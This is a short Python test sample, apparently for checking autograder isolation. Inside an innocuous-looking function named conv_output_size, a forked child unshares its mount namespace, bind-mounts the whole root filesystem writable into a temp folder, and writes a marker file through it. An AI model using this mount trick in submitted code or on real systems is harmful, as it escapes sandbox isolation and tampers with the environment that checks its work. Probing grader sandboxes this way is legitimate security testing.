# attack: a child mounts the whole machine in its folder, writable, and writes through it.
# alone: file
import ctypes
import os
import signal
from pathlib import Path

FOLDER = Path("/tmp/autograder-attack")
NEW_MOUNTS, BIND, RECURSIVE, PRIVATE, REMOUNT = 0x20000, 0x1000, 0x4000, 0x40000, 0x20


def conv_output_size(size, kernel_size, stride=1, padding=0):
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        here = FOLDER / "harm_mount-place"
        here.mkdir(parents=True, exist_ok=True)
        assert libc.unshare(NEW_MOUNTS) == 0  # so that nothing stays mounted when it ends
        assert libc.mount(b"none", b"/", None, RECURSIVE | PRIVATE, None) == 0
        libc.mount(b"none", b"/", None, REMOUNT | BIND, None)
        assert libc.mount(b"/", bytes(here), None, BIND | RECURSIVE, None) == 0
        Path(f"{here}{FOLDER}", "harm_mount").write_text("I was here")
    finally:
        os.kill(os.getpid(), signal.SIGKILL)
